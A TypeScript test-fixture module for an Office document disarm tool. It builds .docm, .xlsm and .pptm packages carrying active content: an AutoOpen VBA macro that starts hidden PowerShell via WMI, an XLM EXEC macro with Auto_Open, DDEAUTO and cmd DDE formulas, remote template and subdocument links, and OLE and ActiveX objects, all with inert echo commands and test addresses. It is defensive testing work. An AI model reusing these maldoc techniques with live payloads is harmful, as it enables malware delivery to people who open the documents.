/**
 * OOXML packages carrying every kind of active content a disarm removes, built with the package
 * writer of src/formats/ooxml: a .docm with a VBA project (and its vbaData.xml), a remote template,
 * an embedded OLE object, an ActiveX control, DDEAUTO and remote INCLUDEPICTURE fields, a frame and
 * a subdocument; an .xlsm with VBA, an XLM macro sheet, Auto_Open, a DDE link and formula, OLE and
 * control elements; a .pptm with VBA, an OLE graphic frame and a control. Inert: commands echo,
 * addresses are example.com or TEST-NET.
 */
import { buildVbaProjectBin, vbaModuleSource } from '../../src/formats/ovba/index.js';
import {
  buildOoxmlPackage,
  readPackageStrict,
  type OoxmlRelSpec,
} from '../../src/formats/ooxml/index.js';
import { complexField } from './office.js';
import { buildZip, type RawMember } from './zip.js';

const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const MS_REL = 'http://schemas.microsoft.com/office/2006/relationships';
const W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
const V = 'urn:schemas-microsoft-com:vml';
const O = 'urn:schemas-microsoft-com:office:office';
const S = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const P = 'http://schemas.openxmlformats.org/presentationml/2006/main';
const A = 'http://schemas.openxmlformats.org/drawingml/2006/main';
const OOXML = 'application/vnd.openxmlformats-officedocument';
const XML_HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';

/** Text every builder puts in its visible content, to check that disarm keeps it. */
export const VISIBLE_TEXT = 'Quarterly invoice 2024-117 for Example Corp';
export const DDE_COMMAND = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k echo emoguard-inert"';
export const TEMPLATE_URL = 'http://203.0.113.9/templates/invoice.dotm';

const MACRO = [
  'Sub AutoOpen()',
  '    Dim o',
  '    Set o = GetObject("winmgmts:Win32_Process")',
  '    o.Create "powershell -nop -w hidden -c Write-Output emoguard-inert", Null, Null, 0',
  'End Sub',
].join('\r\n');

/** A vbaProject.bin whose AutoOpen starts PowerShell through WMI (text only; nothing runs it). */
export function dropperProject(): Uint8Array {
  return buildVbaProjectBin({
    modules: [{ name: 'Module1', code: vbaModuleSource('Module1', MACRO) }],
  });
}

/** An OLE object part: any compound file bytes will do for disarm (it is removed unread). */
const OLE_BYTES = new Uint8Array([
  0xd0,
  0xcf,
  0x11,
  0xe0,
  0xa1,
  0xb1,
  0x1a,
  0xe1,
  ...new Array(504).fill(0),
]);

export interface ActiveDocmSpec {
  /** Leave out kinds of content (all are in by default). */
  without?: readonly (
    'vba' | 'template' | 'ole' | 'activex' | 'dde' | 'include' | 'frame' | 'subdoc'
  )[];
  /** Main content type; default the macro-enabled document type. */
  mainType?: string;
}

export function buildActiveDocm(spec: ActiveDocmSpec = {}): Uint8Array {
  const has = (k: NonNullable<ActiveDocmSpec['without']>[number]) => !spec.without?.includes(k);
  const body: string[] = [`<w:p><w:r><w:t>${VISIBLE_TEXT}</w:t></w:r></w:p>`];
  const files: Record<string, string | Uint8Array> = {};
  const docRels: OoxmlRelSpec[] = [{ id: 'rId1', type: `${REL}/settings`, target: 'settings.xml' }];
  const rels: Record<string, OoxmlRelSpec[]> = {
    '': [{ id: 'rId1', type: `${REL}/officeDocument`, target: 'word/document.xml' }],
    'word/document.xml': docRels,
  };
  const overrides: Record<string, string> = {
    'word/document.xml': spec.mainType ?? 'application/vnd.ms-word.document.macroEnabled.main+xml',
    'word/settings.xml': `${OOXML}.wordprocessingml.settings+xml`,
  };
  const defaults: Record<string, string> = {};
  let settings = '';
  if (has('vba')) {
    files['word/vbaProject.bin'] = dropperProject();
    files['word/vbaData.xml'] =
      `${XML_HEAD}<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"><wne:mcds><wne:mcd wne:macroName="PROJECT.MODULE1.AUTOOPEN" wne:name="Project.Module1.AutoOpen" wne:bEncrypt="00" wne:cmg="56"/></wne:mcds></wne:vbaSuppData>`;
    defaults['bin'] = 'application/vnd.ms-office.vbaProject';
    overrides['word/vbaData.xml'] = 'application/vnd.ms-word.vbaData+xml';
    docRels.push({ id: 'rId2', type: `${MS_REL}/vbaProject`, target: 'vbaProject.bin' });
    rels['word/vbaProject.bin'] = [
      { id: 'rId1', type: `${MS_REL}/wordVbaData`, target: 'vbaData.xml' },
    ];
  }
  if (has('template')) {
    settings = '<w:attachedTemplate r:id="rId1"/>';
    rels['word/settings.xml'] = [
      { id: 'rId1', type: `${REL}/attachedTemplate`, target: TEMPLATE_URL, targetMode: 'External' },
    ];
  }
  if (has('ole')) {
    files['word/embeddings/oleObject1.bin'] = OLE_BYTES;
    overrides['word/embeddings/oleObject1.bin'] = `${OOXML}.oleObject`;
    docRels.push({ id: 'rId3', type: `${REL}/oleObject`, target: 'embeddings/oleObject1.bin' });
    body.push(
      `<w:p><w:r><w:t>Before object.</w:t></w:r><w:r><w:object w:dxaOrig="1440" w:dyaOrig="1440"><v:shape id="_x0000_i1025" style="width:72pt;height:72pt"/><o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x0000_i1025" DrawAspect="Icon" ObjectID="_1" r:id="rId3"/></w:object></w:r></w:p>`,
    );
  }
  if (has('activex')) {
    files['word/activeX/activeX1.xml'] =
      `${XML_HEAD}<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" xmlns:r="${REL}" ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" ax:persistence="persistStorage" r:id="rId1"/>`;
    files['word/activeX/activeX1.bin'] = OLE_BYTES;
    overrides['word/activeX/activeX1.xml'] = 'application/vnd.ms-office.activeX+xml';
    overrides['word/activeX/activeX1.bin'] = 'application/vnd.ms-office.activeX';
    docRels.push({ id: 'rId4', type: `${REL}/control`, target: 'activeX/activeX1.xml' });
    rels['word/activeX/activeX1.xml'] = [
      { id: 'rId1', type: `${MS_REL}/activeXControlBinary`, target: 'activeX1.bin' },
    ];
    body.push(
      `<w:p><w:r><w:object><v:shape id="_x0000_i1026" style="width:60pt;height:20pt"/><w:control r:id="rId4" w:name="CommandButton1" w:shapeid="_x0000_i1026"/></w:object></w:r></w:p>`,
    );
  }
  if (has('dde'))
    body.push(`<w:p>${complexField([DDE_COMMAND.slice(0, 12), DDE_COMMAND.slice(12)])}</w:p>`);
  if (has('include')) {
    body.push(
      `<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://198.51.100.4/logo.png&quot; \\d "><w:r><w:t>logo</w:t></w:r></w:fldSimple></w:p>`,
    );
  }
  if (has('frame')) {
    files['word/webSettings.xml'] =
      `${XML_HEAD}<w:webSettings xmlns:w="${W}" xmlns:r="${REL}"><w:frameset><w:frame><w:name w:val="f1"/><w:sourceFileName r:id="rId1"/></w:frame></w:frameset></w:webSettings>`;
    overrides['word/webSettings.xml'] = `${OOXML}.wordprocessingml.webSettings+xml`;
    docRels.push({ id: 'rId5', type: `${REL}/webSettings`, target: 'webSettings.xml' });
    rels['word/webSettings.xml'] = [
      {
        id: 'rId1',
        type: `${REL}/frame`,
        target: 'http://198.51.100.7/frame.html',
        targetMode: 'External',
      },
    ];
  }
  if (has('subdoc')) {
    docRels.push({
      id: 'rId6',
      type: `${REL}/subDocument`,
      target: '\\\\198.51.100.8\\share\\part.docx',
      targetMode: 'External',
    });
    body.push('<w:p><w:subDoc r:id="rId6"/></w:p>');
  }
  docRels.push({
    id: 'rId7',
    type: `${REL}/hyperlink`,
    target: 'https://example.com/',
    targetMode: 'External',
  });
  body.push(`<w:p><w:hyperlink r:id="rId7"><w:r><w:t>example link</w:t></w:r></w:hyperlink></w:p>`);
  files['word/document.xml'] =
    `${XML_HEAD}<w:document xmlns:w="${W}" xmlns:r="${REL}" xmlns:v="${V}" xmlns:o="${O}"><w:body>${body.join('')}<w:sectPr/></w:body></w:document>`;
  files['word/settings.xml'] =
    `${XML_HEAD}<w:settings xmlns:w="${W}" xmlns:r="${REL}">${settings}<w:defaultTabStop w:val="720"/></w:settings>`;
  return buildOoxmlPackage({ files, contentTypes: { defaults, overrides }, rels });
}

export interface ActiveXlsmSpec {
  /** Only the macro sheet (no worksheet): disarm must add an empty sheet. */
  isMacroSheetOnly?: boolean;
}

export function buildActiveXlsm(spec: ActiveXlsmSpec = {}): Uint8Array {
  const macroOnly = spec.isMacroSheetOnly === true;
  const sheets = [
    ...(macroOnly ? [] : ['<sheet name="Invoice" sheetId="1" r:id="rId1"/>']),
    '<sheet name="Macro1" sheetId="2" state="veryHidden" r:id="rId2"/>',
    ...(macroOnly ? [] : ['<sheet name="Notes" sheetId="3" r:id="rId6"/>']),
  ].join('');
  const names = [
    '<definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName>',
    '<definedName name="Auto_Open2">Macro1!$A$2</definedName>',
    ...(macroOnly
      ? []
      : [
          '<definedName name="_xlnm.Print_Area" localSheetId="2">Notes!$A$1:$B$2</definedName>',
          '<definedName name="Total">Invoice!$B$1</definedName>',
        ]),
  ].join('');
  const files: Record<string, string | Uint8Array> = {
    'xl/workbook.xml': `${XML_HEAD}<workbook xmlns="${S}" xmlns:r="${REL}"><bookViews><workbookView activeTab="${macroOnly ? 0 : 2}"/></bookViews><sheets>${sheets}</sheets><definedNames>${names}</definedNames></workbook>`,
    'xl/macrosheets/sheet1.xml': `${XML_HEAD}<xm:macrosheet xmlns="${S}" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1"><c r="A1"><f>EXEC("powershell -nop -c Write-Output emoguard-inert")</f></c></row><row r="2"><c r="A2"><f>HALT()</f></c></row></sheetData></xm:macrosheet>`,
    'xl/vbaProject.bin': dropperProject(),
    'xl/calcChain.xml': `${XML_HEAD}<calcChain xmlns="${S}"><c r="A1" i="2"/><c r="B1" i="1"/></calcChain>`,
  };
  const overrides: Record<string, string> = {
    'xl/workbook.xml': 'application/vnd.ms-excel.sheet.macroEnabled.main+xml',
    'xl/macrosheets/sheet1.xml': 'application/vnd.ms-excel.macrosheet+xml',
    'xl/calcChain.xml': `${OOXML}.spreadsheetml.calcChain+xml`,
  };
  const wbRels: OoxmlRelSpec[] = [
    { id: 'rId2', type: `${MS_REL}/xlMacrosheet`, target: 'macrosheets/sheet1.xml' },
    { id: 'rId3', type: `${MS_REL}/vbaProject`, target: 'vbaProject.bin' },
    { id: 'rId5', type: `${REL}/calcChain`, target: 'calcChain.xml' },
  ];
  const rels: Record<string, OoxmlRelSpec[]> = {
    '': [{ id: 'rId1', type: `${REL}/officeDocument`, target: 'xl/workbook.xml' }],
    'xl/workbook.xml': wbRels,
  };
  if (!macroOnly) {
    files['xl/worksheets/sheet1.xml'] =
      `${XML_HEAD}<worksheet xmlns="${S}" xmlns:r="${REL}" xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>${VISIBLE_TEXT}</t></is></c><c r="B1"><f>cmd|'/c echo emoguard-inert'!A0</f><v>0</v></c><c r="C1"><f>SUM(1,2)</f><v>3</v></c></row></sheetData><oleObjects><mc:AlternateContent><mc:Choice Requires="x14"><oleObject progId="Package" shapeId="1025" r:id="rId1"/></mc:Choice><mc:Fallback><oleObject progId="Package" shapeId="1025" r:id="rId1"/></mc:Fallback></mc:AlternateContent></oleObjects><controls><control shapeId="1026" r:id="rId2" name="CommandButton1"/></controls></worksheet>`;
    files['xl/worksheets/sheet2.xml'] =
      `${XML_HEAD}<worksheet xmlns="${S}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>notes</t></is></c></row></sheetData></worksheet>`;
    files['xl/embeddings/oleObject1.bin'] = OLE_BYTES;
    files['xl/activeX/activeX1.xml'] =
      `${XML_HEAD}<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" ax:persistence="persistStreamInit"/>`;
    files['xl/externalLinks/externalLink1.xml'] =
      `${XML_HEAD}<externalLink xmlns="${S}"><ddeLink ddeService="cmd" ddeTopic="/c echo emoguard-inert"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>`;
    overrides['xl/worksheets/sheet1.xml'] = `${OOXML}.spreadsheetml.worksheet+xml`;
    overrides['xl/worksheets/sheet2.xml'] = `${OOXML}.spreadsheetml.worksheet+xml`;
    overrides['xl/embeddings/oleObject1.bin'] = `${OOXML}.oleObject`;
    overrides['xl/activeX/activeX1.xml'] = 'application/vnd.ms-office.activeX+xml';
    overrides['xl/externalLinks/externalLink1.xml'] = `${OOXML}.spreadsheetml.externalLink+xml`;
    wbRels.push(
      { id: 'rId1', type: `${REL}/worksheet`, target: 'worksheets/sheet1.xml' },
      { id: 'rId6', type: `${REL}/worksheet`, target: 'worksheets/sheet2.xml' },
      { id: 'rId4', type: `${REL}/externalLink`, target: 'externalLinks/externalLink1.xml' },
    );
    rels['xl/worksheets/sheet1.xml'] = [
      { id: 'rId1', type: `${REL}/oleObject`, target: '../embeddings/oleObject1.bin' },
      { id: 'rId2', type: `${REL}/control`, target: '../activeX/activeX1.xml' },
    ];
    files['xl/workbook.xml'] = (files['xl/workbook.xml'] as string).replace(
      '</definedNames>',
      '</definedNames><externalReferences><externalReference r:id="rId4"/></externalReferences>',
    );
  }
  return buildOoxmlPackage({
    files,
    contentTypes: { defaults: { bin: 'application/vnd.ms-office.vbaProject' }, overrides },
    rels,
  });
}

export function buildActivePptm(): Uint8Array {
  const slide = `${XML_HEAD}<p:sld xmlns:p="${P}" xmlns:a="${A}" xmlns:r="${REL}"><p:cSld><p:spTree><p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/><p:sp><p:nvSpPr><p:cNvPr id="2" name="Title"/><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr/><p:txBody><a:bodyPr/><a:p><a:r><a:t>${VISIBLE_TEXT}</a:t></a:r></a:p></p:txBody></p:sp><p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="3" name="Object 2"/><p:cNvGraphicFramePr/><p:nvPr/></p:nvGraphicFramePr><p:xfrm><a:off x="0" y="0"/><a:ext cx="1" cy="1"/></p:xfrm><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole"><p:oleObj progId="Package" r:id="rId2"><p:embed/></p:oleObj></a:graphicData></a:graphic></p:graphicFrame></p:spTree><p:controls><p:control spid="1027" name="CommandButton1" r:id="rId3"/></p:controls></p:cSld></p:sld>`;
  const files: Record<string, string | Uint8Array> = {
    'ppt/presentation.xml': `${XML_HEAD}<p:presentation xmlns:p="${P}" xmlns:r="${REL}"><p:sldIdLst><p:sldId id="256" r:id="rId2"/></p:sldIdLst><p:sldSz cx="9144000" cy="6858000"/><p:notesSz cx="6858000" cy="9144000"/></p:presentation>`,
    'ppt/slides/slide1.xml': slide,
    'ppt/vbaProject.bin': dropperProject(),
    'ppt/embeddings/oleObject1.bin': OLE_BYTES,
    'ppt/activeX/activeX1.xml': `${XML_HEAD}<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" ax:persistence="persistStreamInit"/>`,
  };
  return buildOoxmlPackage({
    files,
    contentTypes: {
      defaults: { bin: 'application/vnd.ms-office.vbaProject' },
      overrides: {
        'ppt/presentation.xml': 'application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml',
        'ppt/slides/slide1.xml': `${OOXML}.presentationml.slide+xml`,
        'ppt/embeddings/oleObject1.bin': `${OOXML}.oleObject`,
        'ppt/activeX/activeX1.xml': 'application/vnd.ms-office.activeX+xml',
      },
    },
    rels: {
      '': [{ id: 'rId1', type: `${REL}/officeDocument`, target: 'ppt/presentation.xml' }],
      'ppt/presentation.xml': [
        { id: 'rId2', type: `${REL}/slide`, target: 'slides/slide1.xml' },
        { id: 'rId3', type: `${MS_REL}/vbaProject`, target: 'vbaProject.bin' },
      ],
      'ppt/slides/slide1.xml': [
        { id: 'rId2', type: `${REL}/oleObject`, target: '../embeddings/oleObject1.bin' },
        { id: 'rId3', type: `${REL}/control`, target: '../activeX/activeX1.xml' },
      ],
    },
  });
}

/** The members of a package as raw ZIP members (content inflated), for rebuilding it with changes. */
export function packageMembers(bytes: Uint8Array): RawMember[] {
  const read = readPackageStrict(bytes, {
    maxMembers: 10_000,
    maxTotalBytes: 1 << 30,
    maxRatio: Infinity,
    keep: () => true,
  });
  if (!read.ok) throw new Error(read.reason);
  return read.members.map((m) => ({ name: m.name, data: m.content ?? m.raw }));
}

/** The same package with one member's text changed. */
export function replaceMember(
  bytes: Uint8Array,
  name: string,
  change: (text: string) => string,
): Uint8Array {
  return buildZip(
    packageMembers(bytes).map((m) =>
      m.name === name ? { ...m, data: change(new TextDecoder().decode(m.data as Uint8Array)) } : m,
    ),
  );
}
